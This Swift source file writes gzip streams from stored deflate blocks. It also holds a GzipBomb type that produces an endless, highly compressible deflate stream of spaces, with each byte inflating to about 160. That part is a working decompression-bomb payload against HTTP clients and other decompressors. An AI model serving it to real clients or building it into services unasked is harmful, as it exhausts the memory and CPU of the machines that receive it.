import NIOCore

/// The gzip format with stored blocks.
struct StoredGzip {
    private var isBegun = false
    private var checksum = CRC32()
    private var size: UInt32 = 0

    /// No flags, no time, unknown system.
    static let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]

    mutating func block(_ bytes: ByteBuffer) -> ByteBuffer {
        var out = ByteBuffer()
        begin(&out)
        checksum.update(bytes)
        size &+= UInt32(truncatingIfNeeded: bytes.readableBytes)
        var left = bytes
        while left.readableBytes > 0 {
            let count = min(left.readableBytes, 0xFFFF)
            writeStored(left.readSlice(length: count) ?? ByteBuffer(), isLast: false, to: &out)
        }
        return out
    }

    mutating func end() -> ByteBuffer {
        var out = ByteBuffer()
        begin(&out)
        writeStored(ByteBuffer(), isLast: true, to: &out)
        out.writeInteger(checksum.value, endianness: .little)
        out.writeInteger(size, endianness: .little)
        return out
    }

    private mutating func begin(_ out: inout ByteBuffer) {
        if !isBegun { out.writeBytes(Self.header) }
        isBegun = true
    }
}

/// A stored block of at most 65,535 bytes.
func writeStored(_ bytes: ByteBuffer, isLast: Bool, to out: inout ByteBuffer) {
    let count = UInt16(bytes.readableBytes)
    out.writeInteger(UInt8(isLast ? 1 : 0))
    out.writeInteger(count, endianness: .little)
    out.writeInteger(~count, endianness: .little)
    out.writeImmutableBuffer(bytes)
}

/// An endless gzip stream of spaces; each byte inflates to about 160.
struct GzipBomb {
    private var isBegun = false

    mutating func next() -> ByteBuffer {
        var out = ByteBuffer()
        if !isBegun {
            isBegun = true
            out.writeBytes(StoredGzip.header)
            writeStored(ByteBuffer(string: " "), isLast: false, to: &out)
            out.writeBytes(Self.opening)
        }
        for _ in 0..<1024 { out.writeBytes(Self.cycle) }
        return out
    }

    /// The start of a block with fixed Huffman codes (RFC 1951, section 3.2.6), and one match.
    private static let opening: [UInt8] = [0x1A, 0x05]
    /// Eight matches of length 258 (11000101) at distance 1 (00000), which fill thirteen bytes.
    private static let cycle: [UInt8] = [
        0xA3, 0x60, 0x14, 0x8C, 0x82, 0x51, 0x30, 0x0A, 0x46, 0xC1, 0x28, 0x18, 0x05,
    ]
}
